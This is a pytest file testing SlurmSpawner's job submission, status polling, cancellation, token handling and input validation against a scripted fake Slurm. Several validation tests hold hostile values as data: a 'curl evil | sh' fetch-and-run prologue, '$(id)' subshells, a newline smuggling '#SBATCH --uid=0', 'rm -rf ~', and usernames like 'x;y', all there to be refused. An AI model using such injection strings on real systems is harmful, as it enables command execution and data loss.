"""SlurmSpawner's decisions, with an injected FakeRunner answering like Slurm 22.05 did here.

Replies are real squeue/sbatch outputs seen on the real Slurm (see ../shared/REAL-COMPONENTS.md);
parser tests over captured fixture files live in test_parsers_slurm.py.
"""

import asyncio
import json
import logging
import socket
from types import SimpleNamespace

import pytest
from helpers import make_spawner
from tornado import web

from batchspawner import JobState, SlurmSpawner, SpawnFailed
from batchspawner.hub.api import BatchSpawnerAPIHandler
from batchspawner.core.options import OptionError
from fakes import FakeRunner, Reply

ERR_INVALID = "slurm_load_jobs error: Invalid job id specified\n"
ERR_DOWN = "slurm_load_jobs error: Unable to contact slurm controller (connect failure)\n"


class Cluster:
    """Answers sbatch/squeue/scancel from a scripted list of squeue states."""

    def __init__(self, states, job_id="123", host="localhost"):
        self.states = list(states)
        self.job_id = job_id
        self.host = host
        self.cancelled = set()

    def __call__(self, argv, stdin):
        cmd = argv[0]
        if cmd == "sbatch":
            return Reply(stdout=f"{self.job_id}\n")
        if cmd == "scancel":
            self.cancelled.add(argv[-1])
            return Reply()
        if cmd in ("sh", "rm"):  # token file written / removed as the user
            return Reply()
        if cmd == "tail":
            return Reply(stdout="line1\nImportError: no module named jupyterhub\n")
        if cmd == "scontrol":  # the second source: agrees with the last squeue answer, as the real one does
            last = getattr(self, "last", None)
            if last is None or (isinstance(last, Reply) and not last.stdout.strip()) or last == "":
                return Reply(stderr=ERR_INVALID, returncode=1)
            if isinstance(last, Reply):
                return last
            return Reply(stdout=f"JobId={argv[-1]} JobState={last.split()[0]} NodeList={last.split()[1]}\n")
        if cmd == "squeue":
            # per-job query "-o '%T %B %r'", or the shared one "-o '%i %T %B %r'" for many ids
            job_id = argv[5]
            with_id = argv[7].startswith("%i")
            if job_id in self.cancelled:
                line = "CANCELLED localhost None"
            else:
                state = self.states.pop(0) if len(self.states) > 1 else self.states[0]
                self.last = state
                if isinstance(state, Reply):
                    return state
                line = state
            if with_id and line:
                line = f"{job_id} {line}"
            return Reply(stdout=line + "\n" if line else "")
        raise AssertionError(f"unexpected command {argv}")


def spawner_with(cluster, **traits):
    runner = FakeRunner(cluster)
    traits.setdefault("startup_poll_interval", 0.01)
    traits.setdefault("status_min_interval", 0.01)
    traits.setdefault("running_check_interval", 0.05)
    return make_spawner(SlurmSpawner, runner, **traits), runner


@pytest.fixture
def listener():
    """A real listening socket standing in for the single-user server."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    yield sock.getsockname()[1]
    sock.close()


async def _start_and_report(spawner, port):
    task = asyncio.ensure_future(spawner.start())
    for _ in range(500):
        if spawner._port_future is not None and spawner.job_id and spawner._last_status and spawner._last_status.state is JobState.RUNNING:
            break
        await asyncio.sleep(0.01)
    spawner.report_port(port)
    return await asyncio.wait_for(task, 10)


async def test_start_submits_script_on_stdin_and_returns_host_port(listener):
    cluster = Cluster(["PENDING n/a Resources", "PENDING n/a Priority", "RUNNING 127.0.0.1 None"])
    spawner, runner = spawner_with(cluster, req_partition="debug", req_runtime="01:00:00", req_memory="4G")
    ip, port = await _start_and_report(spawner, listener)
    assert (ip, port) == ("127.0.0.1", listener)
    submit = runner.calls[0]
    assert submit.argv == ["sbatch", "--parsable"]
    script = submit.stdin
    assert "#SBATCH --partition=debug\n" in script
    assert "#SBATCH --time=01:00:00\n" in script
    assert "#SBATCH --mem=4G\n" in script
    assert "#SBATCH --qos" not in script and "#SBATCH --account" not in script
    # the token travels in the environment, never in the script
    assert "secret-token-value" not in script
    assert submit.env["JUPYTERHUB_API_TOKEN"] == "secret-token-value"
    assert "PATH" in submit.env and "PATH" in script.split("--export=")[1].split("\n")[0]
    assert spawner.get_state()["job_id"] == "123"
    queries = [c.argv for c in runner.calls if c.argv[0] == "squeue"]
    assert queries[0] == ["squeue", "-h", "-t", "all", "-j", "123", "-o", "%i %T %B %r"]
    messages = [e["message"] for e in spawner._events]
    assert any("(Resources: waiting for free nodes or cores)" in m for m in messages)
    assert any("(Priority: other jobs are ahead in the queue)" in m for m in messages)
    assert len([m for m in messages if "waiting in the queue" in m]) == 2  # one event per change


async def test_job_that_ends_before_reporting_fails_at_once_with_log_tail():
    cluster = Cluster(["PENDING n/a None", "RUNNING localhost None", "FAILED localhost NonZeroExitCode"])
    spawner, runner = spawner_with(cluster)
    with pytest.raises(SpawnFailed) as info:
        await asyncio.wait_for(spawner.start(), 5)
    message = str(info.value)
    assert "ended before your server started (job state FAILED" in message
    assert "no module named jupyterhub" in message
    tail = [c.argv for c in runner.calls if c.argv[0] == "tail"][0]
    assert tail[-1] == "/home/alice/jupyterhub_slurmspawner_123.log"


async def test_job_gone_from_squeue_while_pending_fails():
    cluster = Cluster(["PENDING n/a None", Reply(stdout="")])
    spawner, _ = spawner_with(cluster)
    with pytest.raises(SpawnFailed):
        await asyncio.wait_for(spawner.start(), 5)


@pytest.mark.parametrize(
    "reply, state, host",
    [
        (Reply(stdout="RUNNING node[01-04,07] None\n"), JobState.RUNNING, "node01"),
        (Reply(stdout="COMPLETING localhost None\n"), JobState.RUNNING, "localhost"),
        (Reply(stdout="CONFIGURING n/a None\n"), JobState.PENDING, ""),
        (Reply(stdout="PENDING n/a Resources\n"), JobState.PENDING, ""),
        (Reply(stdout="COMPLETED localhost None\n"), JobState.FINISHED, ""),
        (Reply(stdout="CANCELLED localhost None\n"), JobState.FINISHED, ""),
        # squeue silent, and the second source (scontrol, same reply here) silent too: no evidence
        (Reply(stdout=""), JobState.UNKNOWN, ""),
        # squeue and scontrol both: "Invalid job id specified"
        (Reply(stderr=ERR_INVALID, returncode=1), JobState.FINISHED, ""),
        (Reply(stderr=ERR_DOWN, returncode=1), JobState.UNKNOWN, ""),
        (Reply(stderr="squeue: error: Munge decode failed: Expired credential\n", returncode=1), JobState.UNKNOWN, ""),
        (Reply(stdout="<html>proxy error</html>\n"), JobState.UNKNOWN, ""),
        (Reply(timeout=True), JobState.UNKNOWN, ""),
        (Reply(stdout="CLUSTER: cl2\nRUNNING gpu7 None\n"), JobState.RUNNING, "gpu7"),
    ],
    ids=[
        "running-nodelist", "completing", "configuring", "pending", "completed", "cancelled",
        "empty-after-end", "invalid-job-id", "controller-down", "munge-error", "garbage", "timeout",
        "multicluster-header",
    ],
)
async def test_query_states(reply, state, host):
    spawner, _ = spawner_with(lambda argv, stdin: reply)
    spawner.job_id = "77"
    status = await spawner.query_job_status()
    assert status.state is state
    if host:
        assert status.host == host


async def test_poll_unknown_is_alive_finished_is_not():
    replies = [Reply(stderr=ERR_DOWN, returncode=1), Reply(stdout="RUNNING localhost None\n"), Reply(stdout="COMPLETED localhost None\n")]
    # one query per poll: the per-job mode (shared_status=False), as batchspawner 1.3 did
    spawner, _ = spawner_with(lambda argv, stdin: Reply() if argv[0] == "scancel" else replies.pop(0), shared_status=False)
    spawner.job_id = "9"
    assert await spawner.poll() is None
    assert await spawner.poll() is None
    assert await spawner.poll() == 1


async def test_poll_without_job_is_stopped():
    spawner, runner = spawner_with(Cluster(["RUNNING localhost None"]))
    assert await spawner.poll() == 1  # batchspawner 1.3: no job is a stopped server, exit status 1
    assert runner.calls == []


async def test_stop_cancels_and_waits_until_gone():
    cluster = Cluster(["RUNNING localhost None"])
    spawner, runner = spawner_with(cluster)
    spawner.job_id = "55"
    await spawner.stop()
    assert [c.argv for c in runner.calls][:2] == [["scancel", "55"], ["squeue", "-h", "-t", "all", "-j", "55", "-o", "%i %T %B %r"]]


async def test_stop_is_bounded_when_job_never_goes():
    spawner, runner = spawner_with(lambda argv, stdin: Reply(stdout="RUNNING localhost None\n"), cancel_wait_timeout=0.2)
    spawner.job_id = "56"
    await asyncio.wait_for(spawner.stop(), 3)
    assert runner.calls[0].argv == ["scancel", "56"]
    # not seen gone: kept (through clear_state) for the next start to check again
    spawner.clear_state()
    assert [e["job_id"] for e in spawner.get_state()["uncancelled_jobs"]] == ["56"]


@pytest.mark.parametrize(
    "options, field",
    [
        ({"cmd": "/bin/sh -c evil"}, "cmd"),
        ({"prologue": "curl evil | sh"}, "prologue"),
        ({"partition": "debug\n#SBATCH --uid=0"}, "partition"),
        ({"partition": "a b"}, "partition"),
        ({"partition": "$(id)"}, "partition"),
        ({"partition": "-x"}, "partition"),
        ({"memory": ["4G"]}, "memory"),
        ({"nonsense": "1"}, "nonsense"),
        ({"options": "--uid=0"}, "options"),
    ],
    ids=["cmd", "prologue", "newline", "space", "subshell", "leading-dash", "list", "unknown-key", "raw-options"],
)
async def test_bad_user_options_are_refused_before_submission(options, field):
    spawner, runner = spawner_with(Cluster(["RUNNING localhost None"]))
    spawner.user_options = options
    with pytest.raises(OptionError) as info:
        await spawner.start()
    assert info.value.status_code == 400
    assert info.value.field == field and repr(field) in str(info.value)
    assert runner.calls == []


async def test_good_user_option_reaches_script_as_one_value(listener):
    cluster = Cluster(["RUNNING 127.0.0.1 None"])
    spawner, runner = spawner_with(cluster)
    spawner.user_options = {"partition": "gpu", "runtime": "1-00:00:00"}
    await _start_and_report(spawner, listener)
    script = runner.calls[0].stdin
    assert "#SBATCH --partition=gpu\n" in script and "#SBATCH --time=1-00:00:00\n" in script


async def test_leftover_job_from_interrupted_spawn_is_cancelled_first(listener):
    cluster = Cluster(["RUNNING 127.0.0.1 None"], job_id="200")
    spawner, runner = spawner_with(cluster)
    spawner.load_state({"job_id": "199"})
    await _start_and_report(spawner, listener)
    argvs = [c.argv for c in runner.calls]
    assert argvs[0][:4] == ["squeue", "-h", "-t", "all"] and argvs[0][5] == "199"
    assert argvs[1] == ["scancel", "199"]
    assert spawner.job_id == "200"


def test_exec_prefix_formats_username_as_one_word():
    spawner = make_spawner(SlurmSpawner)
    runner = spawner._make_runner(spawner.exec_prefix)
    assert runner.build_argv(["sbatch", "--parsable"]) == ["sudo", "-E", "-u", "alice", "sbatch", "--parsable"]
    assert runner.remote_shell is False
    ssh = spawner._make_runner("ssh -o BatchMode=yes {username}@login1")
    assert ssh.remote_shell is True


@pytest.mark.parametrize("name", ["-rf", "a b", "x;y", "$(id)"], ids=["dash", "space", "semicolon", "subshell"])
def test_unsafe_usernames_never_reach_the_prefix(name):
    spawner = make_spawner(SlurmSpawner, name=name)
    with pytest.raises(SpawnFailed):
        spawner._make_runner(spawner.exec_prefix)


def test_state_round_trip():
    spawner = make_spawner(SlurmSpawner)
    spawner.load_state({"job_id": "31", "job_status": "RUNNING localhost"})
    assert spawner.get_state()["job_id"] == "31"
    spawner.clear_state()
    assert spawner.job_id == "" and "job_id" not in spawner.get_state()


def test_cmd_is_quoted_for_the_script():
    spawner = make_spawner(SlurmSpawner, batchspawner_singleuser_cmd="/opt/v/bin/batchspawner-singleuser")
    spawner.cmd = ["jupyterhub-singleuser"]
    spawner.args = ["--notebook-dir=/tmp/my dir"]
    assert spawner.cmd_formatted_for_batch().endswith("jupyterhub-singleuser '--notebook-dir=/tmp/my dir'")


def test_format_style_1_3_template_still_works():
    spawner = make_spawner(
        SlurmSpawner, batch_script="#!/bin/sh\n#SBATCH --partition={partition}\n#SBATCH --time={runtime}\n{cmd}\n"
    )
    spawner.req_partition, spawner.req_runtime = "debug", "1:00:00"
    script = spawner.render_script()
    assert script.startswith("#!/bin/sh\n#SBATCH --partition=debug\n#SBATCH --time=1:00:00\n")


async def test_token_via_file_keeps_token_out_of_env_and_script(listener):
    cluster = Cluster(["RUNNING 127.0.0.1 None"])
    spawner, runner = spawner_with(cluster, token_via_file=True)
    await _start_and_report(spawner, listener)
    write, submit = runner.calls[0], runner.calls[1]
    assert write.argv[:3] == ["sh", "-c", 'set -C; umask 077; cat > "$1"']
    path = write.argv[-1]
    assert path.startswith("/home/alice/.jupyterhub-hpc-token-")
    assert write.stdin == "secret-token-value"
    assert "secret-token-value" not in repr(write.env)
    assert submit.argv == ["sbatch", "--parsable"]
    assert "JUPYTERHUB_API_TOKEN" not in submit.env and "JPY_API_TOKEN" not in submit.env
    assert submit.env["JUPYTERHUB_API_TOKEN_FILE"] == path
    assert "secret-token-value" not in submit.stdin
    assert "JUPYTERHUB_API_TOKEN_FILE" in submit.stdin and "JUPYTERHUB_API_TOKEN," not in submit.stdin


async def test_token_file_removed_when_spawn_fails():
    cluster = Cluster(["FAILED localhost NonZeroExitCode"])
    spawner, runner = spawner_with(cluster, token_via_file=True)
    with pytest.raises(SpawnFailed):
        await spawner.start()
    path = runner.calls[0].argv[-1]
    assert ["rm", "-f", "--", path] in [c.argv for c in runner.calls]


# scancel's own format ("Kill job error on job id %s: %s", strings /usr/bin/scancel) with the
# library's text for a stopped slurmctld
ERR_CANCEL_DOWN = "scancel: error: Kill job error on job id {}: Unable to contact slurm controller (connect failure)\n"


class Outage:
    """slurmctld down for the first ``failures`` scancel calls; squeue fails while it is down."""

    def __init__(self, failures, job_id="300"):
        self.failures = failures
        self.job_id = job_id
        self.cancelled = set()

    def __call__(self, argv, stdin):
        cmd = argv[0]
        if cmd == "scancel":
            if self.failures > 0:
                self.failures -= 1
                return Reply(stderr=ERR_CANCEL_DOWN.format(argv[-1]), returncode=1)
            self.cancelled.add(argv[-1])
            return Reply()
        if cmd == "squeue":
            if self.failures > 0:
                return Reply(stderr=ERR_DOWN, returncode=1)
            job_id = argv[5]
            line = "CANCELLED localhost None" if job_id in self.cancelled else "RUNNING localhost None"
            if argv[7].startswith("%i"):
                line = f"{job_id} {line}"
            return Reply(stdout=line + "\n")
        if cmd == "sbatch":
            return Reply(stdout=f"{self.job_id}\n")
        raise AssertionError(f"unexpected command {argv}")


def cancels(runner):
    return [c.argv for c in runner.calls if c.argv[0] == "scancel"]


async def test_failed_cancel_is_retried_until_accepted(caplog):
    caplog.set_level(logging.INFO)
    spawner, runner = spawner_with(Outage(failures=2), cancel_retry_interval=0.01, cancel_retry_timeout=5)
    spawner.job_id = "57"
    await asyncio.wait_for(spawner.stop(), 5)
    assert cancels(runner) == [["scancel", "57"]] * 3
    assert spawner.uncancelled_jobs == []
    assert "cancel of job 57 accepted on attempt 3" in caplog.text
    assert not [r for r in caplog.records if r.levelname == "ERROR"]
    spawner.clear_state()
    assert spawner.get_state() == {}


async def test_cancel_that_keeps_failing_is_kept_and_cancelled_at_next_start(caplog, listener):
    outage = Outage(failures=10**6, job_id="301")
    spawner, runner = spawner_with(outage, cancel_retry_interval=0.01, cancel_retry_timeout=0.3)
    spawner.job_id = "58"
    await asyncio.wait_for(spawner.stop(), 5)  # bounded, and does not pretend all is well
    assert len(cancels(runner)) >= 2
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 1
    assert "could not cancel job 58" in errors[0] and "Unable to contact slurm controller" in errors[0]
    assert "cancel it by hand: scancel 58" in errors[0]
    # the hub clears the state after stop() and saves get_state(): the job is still in it
    spawner.clear_state()
    saved = spawner.get_state()
    assert saved["uncancelled_jobs"][0]["job_id"] == "58"
    assert "job_id" not in saved

    # the next start (a new spawner object, loaded from the database) cancels it first
    outage.failures = 0
    again, runner2 = spawner_with(outage)
    again.load_state(saved)
    again.clear_state()  # User.spawn() clears the state before start()
    await _start_and_report(again, listener)
    argvs = [c.argv for c in runner2.calls]
    assert argvs[0][:6] == ["squeue", "-h", "-t", "all", "-j", "58"]
    assert argvs[1] == ["scancel", "58"]
    assert argvs[2] == ["sbatch", "--parsable"]
    assert again.job_id == "301" and "uncancelled_jobs" not in again.get_state()


async def test_leftover_that_ended_is_dropped_and_one_still_uncancellable_is_kept(listener):
    def respond(argv, stdin):
        if argv[0] == "sbatch":
            return Reply(stdout="400\n")
        if argv[0] == "scancel":
            return Reply(stderr=ERR_CANCEL_DOWN.format(argv[-1]), returncode=1)
        job_id = argv[5]
        state = {"60": "COMPLETED localhost None", "61": "RUNNING localhost None"}.get(job_id, "RUNNING 127.0.0.1 None")
        return Reply(stdout=(f"{job_id} " if argv[7].startswith("%i") else "") + state + "\n")

    spawner, runner = spawner_with(respond)
    spawner.load_state({"uncancelled_jobs": [{"job_id": "60"}, {"job_id": "61"}]})
    await _start_and_report(spawner, listener)
    # both get a cancel (the record that the hub let go of them); 60 had ended, so its failed
    # cancel does not keep it, 61 may still run and is kept
    assert cancels(runner) == [["scancel", "60"], ["scancel", "61"]]
    assert spawner.job_id == "400"
    assert spawner.get_state()["uncancelled_jobs"] == [{"job_id": "61"}]


@pytest.mark.parametrize("shared", [True, False], ids=["shared", "per-job"])
async def test_recovery_from_unknown_is_logged_once(caplog, shared):
    replies = [Reply(stderr=ERR_DOWN, returncode=1)] * 2 + [Reply(stdout="9 RUNNING node[3-4] None\n" if shared else "RUNNING node[3-4] None\n")] * 2
    spawner, _ = spawner_with(lambda argv, stdin: replies.pop(0), shared_status=shared, status_min_interval=0.01)
    spawner.job_id = "9"
    for _ in range(2):
        assert (await spawner.job_status_now(max_age=0)).alive
        await asyncio.sleep(0.02)
    assert "job 9 state unknown" in caplog.text
    assert "state known again" not in caplog.text
    assert (await spawner.job_status_now(max_age=0)).alive
    await asyncio.sleep(0.02)
    assert (await spawner.job_status_now(max_age=0)).alive
    again = [r.getMessage() for r in caplog.records if "state known again" in r.getMessage()]
    assert len(again) == 1
    assert again[0].startswith("alice: job 9 state known again: RUNNING on node3 after ")
    assert again[0].endswith(" s unknown")


# the line proposed for templates/slurm.sh (after "set -euo pipefail")
PATH_LINE = '{% if hub_bin_dir %}export PATH={{ hub_bin_dir }}:"$PATH"{% endif %}\n'


def test_hub_bin_dir_defaults_to_the_wrappers_directory_and_is_quoted_for_the_script():
    import subprocess

    spawner = make_spawner(
        SlurmSpawner,
        batchspawner_singleuser_cmd="'/opt/my venv/bin/batchspawner-singleuser'",
        batch_script="#!/bin/bash\nset -euo pipefail\n" + PATH_LINE + 'printf %s "$PATH"\n',
    )
    assert spawner.hub_bin_dir == "/opt/my venv/bin"
    assert spawner.template_vars()["hub_bin_dir"] == "'/opt/my venv/bin'"
    script = spawner.render_script()
    out = subprocess.run(
        ["bash", "-c", script], env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True, timeout=10
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout == "/opt/my venv/bin:/usr/bin:/bin"


@pytest.mark.parametrize("cmd", ["batchspawner-singleuser", "env X=1 batchspawner-singleuser"], ids=["bare", "env"])
def test_no_hub_bin_dir_leaves_path_alone(cmd):
    spawner = make_spawner(SlurmSpawner, batchspawner_singleuser_cmd=cmd, batch_script="x" + PATH_LINE)
    assert spawner.hub_bin_dir == ""
    assert spawner.render_script() == "x\n"


def test_hub_bin_dir_may_not_hold_a_newline():
    spawner = make_spawner(SlurmSpawner, hub_bin_dir="/opt/v\nrm -rf ~", batch_script=PATH_LINE)
    with pytest.raises(SpawnFailed):
        spawner.render_script()


class PortHandlerStub:
    """Just what BatchSpawnerAPIHandler.post() reads and writes of a tornado handler."""

    def __init__(self, user, token, body):
        self.current_user = user
        self._token = token
        self.request = SimpleNamespace(body=json.dumps(body).encode(), method="POST")
        self.status = None
        self.body = None

    def get_auth_token(self):
        return self._token

    def set_status(self, code):
        self.status = code

    def finish(self, text):
        self.body = text


def post_port(spawner, port):
    handler = PortHandlerStub(spawner.user, spawner.api_token, {"port": port})
    BatchSpawnerAPIHandler.post(handler)
    return handler


async def test_second_port_report_while_starting_is_refused_and_changes_nothing():
    cluster = Cluster(["RUNNING 127.0.0.1 None"])
    spawner, _ = spawner_with(cluster)
    spawner.user.spawners[""] = spawner
    spawner._spawn_pending = True  # as the hub sets it during the spawn
    first = socket.socket()  # bound, not yet listening: start() waits in the listen probe
    first.bind(("127.0.0.1", 0))
    port1 = first.getsockname()[1]
    task = asyncio.ensure_future(spawner.start())
    try:
        for _ in range(500):
            if spawner._port_future is not None and spawner._last_status and spawner._last_status.state is JobState.RUNNING:
                break
            await asyncio.sleep(0.01)
        assert post_port(spawner, port1).status == 201
        await asyncio.sleep(0.2)
        assert not task.done()  # still starting: the port does not accept connections yet
        with pytest.raises(web.HTTPError) as info:
            post_port(spawner, 4242)
        assert info.value.status_code == 403 and "already reported" in info.value.log_message
        assert spawner.port == 0 and not task.done()
        first.listen()
        ip, port = await asyncio.wait_for(task, 5)
        assert (ip, port) == ("127.0.0.1", port1) and spawner.port == port1
    finally:
        task.cancel()
        first.close()


def test_report_port_twice_is_refused():
    spawner = make_spawner(SlurmSpawner)
    loop = asyncio.new_event_loop()
    try:
        spawner._port_future = loop.create_future()
        spawner.report_port(4000)
        with pytest.raises(web.HTTPError) as info:
            spawner.report_port(4001)
        assert info.value.status_code == 403
        assert spawner._port_future.result() == 4000
    finally:
        loop.close()


async def test_start_looks_up_and_stats_the_home_directory_off_the_event_loop(monkeypatch, listener):
    import os
    import threading

    loop_thread = threading.get_ident()
    seen = {}

    def getpwnam(name):
        seen["pwd"] = threading.get_ident()
        return SimpleNamespace(pw_dir="/home/alice-from-passwd")

    real_isdir = os.path.isdir

    def isdir(path):
        if path == "/home/alice-from-passwd":
            seen["isdir"] = threading.get_ident()
            return True
        return real_isdir(path)

    monkeypatch.setattr("batchspawner.core.traits.pwd.getpwnam", getpwnam)
    monkeypatch.setattr("batchspawner.core.jobcalls.os.path.isdir", isdir)
    spawner, runner = spawner_with(Cluster(["RUNNING 127.0.0.1 None"]))
    await _start_and_report(spawner, listener)
    assert seen["pwd"] != loop_thread and seen["isdir"] != loop_thread
    submit = runner.calls[0]
    assert submit.argv[0] == "sbatch" and submit.cwd == "/home/alice-from-passwd"
    assert "#SBATCH --chdir=/home/alice-from-passwd\n" in submit.stdin


async def test_configured_homedir_is_not_looked_up(monkeypatch, listener):
    monkeypatch.setattr("batchspawner.core.traits.pwd.getpwnam", lambda name: pytest.fail("looked up"))
    spawner, runner = spawner_with(Cluster(["RUNNING 127.0.0.1 None"]), req_homedir="/nonexistent/alice")
    await _start_and_report(spawner, listener)
    assert runner.calls[0].cwd is None  # not a directory here: the submit runs from the hub's cwd
    assert "#SBATCH --chdir=/nonexistent/alice\n" in runner.calls[0].stdin


async def test_clear_state_keeps_a_job_not_seen_ended_for_the_next_start(listener):
    # restored from the database with a job id, then User.spawn() clears the state and starts
    cluster = Cluster(["RUNNING 127.0.0.1 None"], job_id="501")
    spawner, runner = spawner_with(cluster)
    spawner.load_state({"job_id": "500", "job_status": "RUNNING localhost"})
    spawner.clear_state()
    assert "job_id" not in spawner.get_state()
    await _start_and_report(spawner, listener)
    argvs = [c.argv for c in runner.calls]
    assert argvs[0][5] == "500" and argvs[1] == ["scancel", "500"] and argvs[2] == ["sbatch", "--parsable"]
    assert spawner.job_id == "501" and spawner.uncancelled_jobs == []


async def test_clear_state_after_a_clean_stop_keeps_nothing():
    spawner, runner = spawner_with(Cluster(["RUNNING localhost None"]))
    spawner.job_id = "55"
    await spawner.stop()
    spawner.clear_state()
    assert spawner.get_state() == {}
